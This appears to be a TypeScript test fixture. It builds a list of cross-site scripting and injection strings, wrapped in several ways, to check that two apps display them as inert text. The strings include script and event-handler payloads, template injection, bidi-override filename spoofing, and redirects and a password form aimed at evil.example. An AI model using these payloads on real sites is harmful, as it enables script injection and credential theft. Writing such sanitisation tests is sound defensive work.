/** Texts that are markup, code or orders to somebody: shown, each must be nothing but text. For tests of both apps. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">Pay here</a>',
  '<style>*{display:none}</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=password>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;b&#62; &amp;amp;',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)}',
  '\\u003cb\\u003e %3Cb%3E',
  '\u202etxt.exe\u202c \u2066\u200b\ufeff',
  ']]><!--><!DOCTYPE html>',
  '=HYPERLINK("//evil.example","Open") \u0001\u001b[31m',
] as const

const wraps = [
  (text: string) => text,
  (text: string) => `"${text}"`,
  (text: string) => `</p></li></blockquote>${text}`,
  (text: string) => `${text}<!--`,
  (text: string) => `<<b>${text}`,
  (text: string) => `A & B ${text} < C`,
  (text: string) => `First\n${text}\nlast`,
  (text: string) => `> ${text}\n--\nSmart Bird`,
  (text: string) => text.toUpperCase(),
  (text: string) => `${text}${text}`,
] as const

export const nastyTexts = payloads.flatMap((payload) => wraps.map((wrap) => wrap(payload)))
